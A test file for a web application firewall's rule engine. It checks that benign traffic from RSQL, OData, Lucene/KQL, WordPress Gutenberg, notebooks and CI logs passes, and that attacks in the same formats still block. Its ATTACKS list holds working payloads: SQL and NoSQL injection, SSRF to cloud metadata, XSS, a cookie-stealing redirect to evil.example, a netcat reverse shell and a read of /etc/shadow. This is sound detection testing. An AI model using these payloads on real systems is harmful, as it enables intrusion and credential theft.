// Benign traffic of application families the other benign tests leave out (test/support/benign/apps-*.ts):
// RSQL, REST list and OData query strings, Lucene/KQL search boxes, OAuth/OIDC and SAML, analytics beacons,
// CMS posts, chat, notebooks, CI logs and issues, Terraform and Helm, painless scripts, GraphQL fragments,
// CSV uploads. `npx tsx scripts/probe-families.ts --set apps` prints the blocked rate per family and the rules behind it.
// Then the fixes those families needed, each beside attacks in the same carrier that must still block.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, type Req } from "../support/engine.js";
import { assertPassed, asPlaced } from "../support/variants/check.js";
import { appFamilies, getQuery, openAppFamilies, postForm } from "../support/benign/apps-families.js";
import { jsonBody } from "../support/benign/place.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

describe("benign application traffic at paranoia 1", () => {
  it.each(appFamilies)("%s is not blocked", (_name, reqs, runs) => {
    assertPassed(h, asPlaced(reqs), runs);
  });
});

/*
 * Left blocked on purpose; each passes with the exclusion its route needs (asserted below). Measured with
 * scripts/probe-families.ts --set apps (400 runs, seed 7): ORM/operator list queries 318/400, the others 400/400.
 * - `price__gte=10` (django-filter) and `filters[price][$lt]=10` (Strapi): the dev corpus labels
 *   `balance__gte=1000` an attack (CRS 934210, ORM leak), and a bracketed operator is `password[$ne]=`, the
 *   NoSQL login bypass; nothing in the request tells a list API from a login form. A whole name that is a
 *   field operator (`$search=`, OData) has no field to act on and passes.
 * - `post_logout_redirect_uri=http://127.0.0.1:53682/` and `redirect_uri=http://[::1]:8400/` (RFC 8252 loopback
 *   redirects of CLIs and native apps): the same URL is an SSRF probe of a local port; the authorization server never
 *   fetches it, so its route can exclude ssrf/rfi on the two redirect arguments. (A `redirect_uri` on 127.0.0.1 or
 *   localhost passes since session 22: the family is blocked 124 of 400 times, not 400.)
 * - `<iframe src="https://www.youtube.com/embed/...">` pasted into a post: an iframe of any site is the tag CRS
 *   and libinjection block, and it can frame a login page over the site; Gutenberg's own embed block (an oEmbed
 *   URL between block comments) passes. README's configuration example excludes xss on a wiki's page body.
 * - A notebook's pandas DataFrame output (`<style scoped>` CSS, then a table) and `%%sql` cells: a `<style>`
 *   element restyles or exfiltrates the page it lands in; a whole SELECT is saved SQL (platform-families.ts).
 * - Inbound email webhooks: a raw MIME message (CRLF then `Content-Type:` in a value is header injection's shape).
 *   A whole HTML document (`<meta http-equiv>`, `<style>`, `<!--[if mso]>`) passes since session 22 (191 of 400 blocked).
 * Residue of the passing families, rare enough to leave: an RSQL literal with an escaped quote
 * (`=='O\'Brien';a.b=`, read JS-unescaped as a string closed then a property assigned), `session.x=` as a field
 * (a php.ini directive), OData `$expand=Version($filter=a or b)` (a navigation property named like a SQL
 * function, holding `or`), a KQL field named like a SQL function before a group (`count : (a or b)`), a
 * Lucene or OData `$search` phrase that is a bare `"and"` (seeds 7, 11, 12: at most 3 of 400 a family).
 */
describe("benign application traffic with its route exclusion at paranoia 1", () => {
  it.each(openAppFamilies)("%s is not blocked on its route", (_name, reqs, runs, exclusion) => {
    assertPassed(h, asPlaced(reqs), runs, undefined, exclusion);
  });
});

const q = (path: string, name: string, value: string): Req => getQuery(path)(`${name}=${encodeURIComponent(value)}`);
const search = (v: string) => q("/search", "q", v);
const rsql = (v: string) => q("/api/v1/users", "search", v);
const link = (v: string) => q("/api/v1/preview", "url", v);
const odata = (qs: string) => getQuery("/odata/v4/Products")(qs);
const post = (content: string) => jsonBody({ title: "Release notes", content, status: "draft" }, "/wp-json/wp/v2/posts");
const log = (text: string) => jsonBody({ job_id: 7, trace: { content: text } }, "/api/v4/jobs/trace");
const cell = (...source: string[]) => jsonBody({ type: "notebook", content: { cells: [{ cell_type: "code", source, outputs: [] }] } }, "/api/contents/nb.ipynb");

/** [what, request] pairs that each fix lets through. */
const FIXED: [string, Req][] = [
  // nosql: a field operator as a whole query-string name
  ["OData $search option", odata("$search=%22blue%20OR%20green%22&$top=5&$count=true")],
  // sqli: RSQL `=in=(` is a list, not a call
  ["RSQL in-list", rsql("status=in=(active,pending);age=gt=30")],
  ["RSQL out-list after a field", rsql("name==jo*,role=out=(admin,owner)")],
  // sqli: a quoted glob path holds its `/*`
  ["KQL path glob", search('url.path : "/api/orders/*"')],
  ["Lucene path glob in single quotes", search("path:'/var/log/app/*'")],
  // ssrf: `\/` is an escaped slash
  ["Lucene escaped slashes", search("path:\\/var\\/log\\/app.log OR file.name:app\\-*.gz")],
  // xss: a comment closed in the value with no markup in it
  ["Gutenberg paragraph", post("<!-- wp:paragraph -->\n<p>Hello <strong>world</strong></p>\n<!-- /wp:paragraph -->")],
  ["Gutenberg image with attributes", post('<!-- wp:image {"id":42,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large"><img src="https://cdn.example.com/a.jpg" alt="" class="wp-image-42"/></figure>\n<!-- /wp:image -->')],
  ["Gutenberg video embed", post('<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video"} -->\n<figure class="wp-block-embed"><div class="wp-block-embed__wrapper">\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n</div></figure>\n<!-- /wp:embed -->')],
  // xss: the second quote of a kind closes the value's own string
  ["RSQL quoted value, then another field", rsql('title=="Hello world";author.name==jo*')],
  // protocol: ANSI colour sequences
  ["CI log with colours", log("\u001b[36;1mnpm ci\u001b[0m\n\u001b[31mError: 2 tests failed\u001b[39m\n##[error]Process completed with exit code 1.")],
  ["notebook traceback", jsonBody({ output_type: "error", traceback: ["\u001b[0;31mKeyError\u001b[0m  Traceback (most recent call last)", "\u001b[0;32m----> 1\u001b[0m df[\u001b[38;5;124m'x'\u001b[39m]"] }, "/api/contents/nb.ipynb")],
  // sqli: a string argument of a call quoted in a post
  ["code sample in a post", post("<p class=\"intro\">Fetch it:</p><pre class=\"language-js\"><code>const owner = await fetch('/api/owner');\n// then render</code></pre>")],
  // sqli: OData cast() over names, nested options parted by `;$`
  ["OData cast", odata(`$filter=${encodeURIComponent("cast(Price,Edm.Int32) ge 5 and Name eq 'O''Brien'")}`)],
  ["OData nested options", odata(`$expand=${encodeURIComponent("User($filter=Name eq 'x';$orderby=Name desc;$top=5)")}`)],
  // rce: an assignment in code
  ["pandas assignment", cell("import pandas as pd\n", "df = pd.read_csv('data/orders.csv')\n", "df.head()")],
];

/** Attacks in the same carriers that must still block. */
const ATTACKS: [string, Req][] = [
  ["$where as a query-string name", odata("$where=sleep(5000)")],
  ["operator under a field", getQuery("/login")("username=admin&password[$ne]=x")],
  ["$or as a query-string name", getQuery("/api/users")("$or[0][password][$regex]=^a")],
  ["subquery in an in-list", rsql("in=(select password from users)")],
  ["in-list opening an injection", q("/api/v1/users", "id", "in '$(")],
  ["breakout then comment", search('admin"/*')],
  ["breakout, condition, comment", search('x" or 1=1/*"')],
  ["escaped-slash loopback URL", link("http:\\/\\/127.0.0.1\\/admin")],
  ["escaped-slash metadata URL", link("http://169.254.169.254\\/latest/meta-data/")],
  ["script after a block comment", post("<!-- wp:paragraph --><script>alert(1)</script>")],
  ["comment hiding a tag", post('<!--<img src="--><img src=x onerror=alert(1)//">')],
  ["conditional comment", post("<!--[if IE]><script>alert(1)</script><![endif]-->")],
  ["comment closed early", post("--><svg onload=alert(1)>")],
  ["comment closed with --!>", post("<p>x</p><!-- a --!><img src=x onerror=alert(1)>")],
  ["JS string closed, property assigned", q("/app/view", "name", '";document.location="//evil.example/"+document.cookie;//')],
  ["JS string closed, then assigned", q("/app/view", "name", '";a.b=1')],
  ["bell byte in a JSON value", jsonBody({ q: "a\u0007b" })],
  ["ESC not opening a sequence", jsonBody({ q: "a\u001bb" })],
  ["control byte in a query", getQuery("/app/view")("q=a%01b")],
  ["colour before an injection", jsonBody({ q: "\u001b[31m' OR 1=1-- " })],
  ["cast of a session function", odata(`$filter=${encodeURIComponent("cast(version() as int)")}`)],
  ["cast of a subquery", q("/api/items", "id", "cast((select password from users) as int)")],
  ["call, then a statement", q("/api/items", "agg", "count(id);drop table users")],
  ["call, `;$`, then a statement", q("/api/items", "agg", "max(a);$a=1;select pg_sleep(5)")],
  ["reverse shell in a cell", cell("nc -e /bin/sh 10.0.0.1 4444")],
  ["command on a secret", postForm("/app/submit")("cmd=" + encodeURIComponent("cat = /etc/shadow"))],
];

describe("fixes for benign application traffic", () => {
  it.each(FIXED)("passes: %s", (_what, req) => {
    const v = inspect(h, req);
    expect(v.score, v.matches.map((m) => `${m.id}[${m.fragment}]`).join(" ")).toBeLessThan(5);
  });
  it.each(ATTACKS)("blocks: %s", (_what, req) => {
    expect(inspect(h, req).score).toBeGreaterThanOrEqual(5);
  });
});
